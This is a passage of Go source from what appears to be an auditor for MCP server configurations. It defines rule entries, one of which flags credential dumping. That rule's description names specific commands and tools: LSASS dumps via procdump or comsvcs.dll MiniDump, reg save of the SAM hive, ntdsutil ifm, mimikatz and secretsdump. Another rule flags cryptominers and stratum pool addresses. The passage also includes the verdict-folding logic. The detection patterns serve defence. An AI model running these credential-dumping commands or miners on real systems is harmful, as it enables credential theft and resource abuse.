		"The wiring reads the credentials the machine keeps for all its users: it dumps the memory of LSASS (procdump -ma lsass, rundll32 comsvcs.dll MiniDump), saves the registry's SAM or SECURITY hive (reg save HKLM\\SAM), copies a domain's NTDS.dit (ntdsutil ifm, esentutl), reads /etc/shadow, or runs a tool made for it (mimikatz, pypykatz, lsassy, secretsdump, unshadow).",
		"Remove it: an MCP server reads the one credential the user gives it, never the machine's."),
	rule(CodeCryptominer, registry.LevelDanger, true,
		"The wiring mines cryptocurrency on the user's machine: it runs a miner (xmrig, xmr-stak, cpuminer, t-rex, lolminer, ethminer, nbminer …), a container image of one, or names a mining pool's stratum address (stratum+tcp://, stratum+ssl://).",
		"Remove it: an MCP server has no use for a miner, which spends the user's processor and power for whoever holds the wallet."),
	rule(CodeLookalikeName, registry.LevelDanger, true,
		"A program or package name mixes Latin letters with letters of another script that look like them (npx written with a Cyrillic р, a package name with a Greek ο): it reads as the name it imitates in a report, a review or a terminal, and is another name.",
		"Write the name in the letters it is spelled with; package registries take ASCII names only."),
	rule(CodeLoopbackEndpoint, registry.LevelInfo, false,
		"The HTTP endpoint is on this machine (loopback); the user must run that server separately.",
		"Nothing to fix; document how the local server is started."),
	rule(CodeDocPlaceholder, registry.LevelWarn, false,
		"A placeholder from documentation (<YOUR_API_KEY>) is left in a command line that a shell reads, which takes it for a redirection: the wiring does not run as written.",
		"Put the value, or a ${VAR} placeholder the user fills in, in its place."),
	rule(CodeCommandLine, registry.LevelWarn, true,
		"mcp.command holds a whole command line rather than one program (uvx server --flag, or srv|sh, or a path with blanks followed by ; or &&): a launcher that starts programs directly cannot run it, and one that uses a shell reads it as a script. A path with a blank inside a folder's name (/Users/me/Git Repos/srv/bin/server) is one program when the command line it would read as runs nothing the audit reports.",
		"Put the program alone in mcp.command and each of its words, in order, in mcp.args."),
}

var ruleIndex = func() map[string]registry.Rule {
	m := make(map[string]registry.Rule, len(ruleTable))
	for _, r := range ruleTable {
		m[r.Code] = r
	}
	return m
}()

// Rules returns the rule table, one entry per code, ordered by code. The
// caller may modify the returned slice. Every finding Audit emits carries a
// code of this table at the level the table gives.
func Rules() []registry.Rule {
	out := append([]registry.Rule(nil), ruleTable...)
	sort.Slice(out, func(i, j int) bool { return out[i].Code < out[j].Code })
	return out
}

// RuleFor returns the rule of code and whether the code is known.
func RuleFor(code string) (registry.Rule, bool) {
	r, ok := ruleIndex[code]
	return r, ok
}

// Verdict folds findings into a verdict, considering only the findings for
// which counted(i) is true (a nil counted counts every finding; the report
// passes a predicate that leaves suppressed findings out). It returns
// VerdictFail when a counted finding has a blocking code, else VerdictReview
// when the highest counted level is at least warn, else VerdictPass. A code
// missing from the rule table counts at its level and never blocks.
func Verdict(findings []registry.Finding, counted func(i int) bool) registry.Verdict {
	high := registry.LevelNone
	for i, f := range findings {
		if counted != nil && !counted(i) {
			continue
		}
		if r, ok := ruleIndex[f.Code]; ok && r.Blocking {
			return registry.VerdictFail
		}
		if f.Level > high {
			high = f.Level
		}
	}
	if high >= registry.LevelWarn {
		return registry.VerdictReview
	}
	return registry.VerdictPass
}

func rule(code string, level registry.Level, blocking bool, description, remedy string) registry.Rule {
	return registry.Rule{Code: code, Level: level, Blocking: blocking, Description: description, Remedy: remedy}
}
